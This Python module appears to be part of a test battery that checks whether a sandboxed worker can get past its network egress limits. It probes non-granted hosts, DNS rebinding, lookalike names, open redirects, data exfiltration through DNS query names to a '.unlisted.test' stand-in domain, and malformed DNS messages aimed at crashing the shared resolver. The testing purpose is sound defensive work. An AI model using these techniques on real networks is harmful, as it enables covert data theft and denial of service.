"""
Attacks on the network: by names that are not what they look like, or lead where they should not.
"""

from __future__ import annotations

import contextlib
import socket
from typing import Any

from toolcell_worker.battery.abroad import SECONDS, answerer, get, knock, visit
from toolcell_worker.battery.questions import AAAA, ANY, MALFORMED, MX, NULL, TXT, A, ask, question
from toolcell_worker.battery.trying import every

IMPATIENT_SECONDS = 0.01
CHUNKS = 8  # names of one kind; each carries a part


def reach_what_was_asked_for(plan: dict[str, Any]) -> Any:
    """
    Whatever was granted for a doubtful text is used.
    """
    return every(
        host=lambda: knock(plan, plan["host"], plan["port"]),
        other=lambda: knock(plan, *plan["other"]),
    )


def reach_a_doubtful_host(plan: dict[str, Any]) -> Any:
    """
    The same for what looks like a host.
    """
    return reach_what_was_asked_for(plan)


def reach_inside_by_granted_names(plan: dict[str, Any]) -> Any:
    """
    Whoever owns a name chooses where it leads.
    """
    visit(plan)
    places = plan["inside"]
    return every(**{n: lambda n=n, port=port: knock(plan, n, port) for n, port in places})


def reach_inside_by_a_name_that_changes(plan: dict[str, Any]) -> Any:
    """
    The first answer is as it should be, the second is not.
    """
    visit(plan)
    name, port = plan["rebound"]
    return every(
        first=lambda: get(plan, name, port, "/first"),
        second=lambda: knock(plan, name, port),
        third=lambda: knock(plan, name, port),
    )


def reach_names_that_look_alike(plan: dict[str, Any]) -> Any:
    """
    Longer, shorter, or with another letter than the granted one.
    """
    visit(plan)
    _, port = plan["granted"]
    return every(**{n: lambda n=n: knock(plan, n, port) for n in plan["names"]})


def reach_beside_a_wildcard(plan: dict[str, Any]) -> Any:
    """
    Its apex, its neighbours, and what is denied below it.
    """
    return reach_names_that_look_alike(plan)


def follow_a_redirect(plan: dict[str, Any]) -> Any:
    """
    The granted host says to go on elsewhere.
    """
    visit(plan)
    name, port = plan["other"]
    answer = visit(plan, f"/redirect/http://{name}:{port}/smuggled")
    target = answer.partition("Location: http://")[2].partition("/")[0]
    host, _, number = target.partition(":")
    return every(followed=lambda: knock(plan, host, int(number)))


def carry_words_out_in_names(plan: dict[str, Any]) -> Any:
    """
    A query is a message, whatever it asks for, and whoever owns the name gets it.
    """
    visit(plan)
    server, said = answerer(plan), dict[str, Any]()
    for kind in (A, AAAA, TXT, MX, NULL, ANY):
        for number in range(CHUNKS):
            query = question(f"{number:060x}.{plan['marker']}.unlisted.test", kind)
            said |= every(
                **{
                    f"over UDP {kind}": lambda query=query: ask(server, query),
                    f"over TCP {kind}": lambda query=query: _ask_over_tcp(server, query),
                }
            )
    return said


def confuse_whoever_answers(plan: dict[str, Any]) -> Any:
    """
    What answers one cell answers all: whoever ends it takes the network from everybody.
    """
    visit(plan)
    server = answerer(plan)
    for text in MALFORMED.values():
        message = bytes.fromhex(text)
        with contextlib.suppress(OSError):
            ask(server, message, IMPATIENT_SECONDS)
        for length in (len(message), 0, 1, 65535):
            with contextlib.suppress(OSError):
                _say_over_tcp(server, length.to_bytes(2, "big") + message)
    return visit(plan)


def _ask_over_tcp(server: tuple[str, int], query: bytes) -> int:
    with socket.create_connection(server, SECONDS) as asking:
        asking.sendall(len(query).to_bytes(2, "big") + query)
        return asking.recv(600)[5] & 15


def _say_over_tcp(server: tuple[str, int], framed: bytes) -> None:
    with socket.create_connection(server, SECONDS) as one:
        one.sendall(framed)
        one.shutdown(socket.SHUT_WR)
        while one.recv(600):
            pass
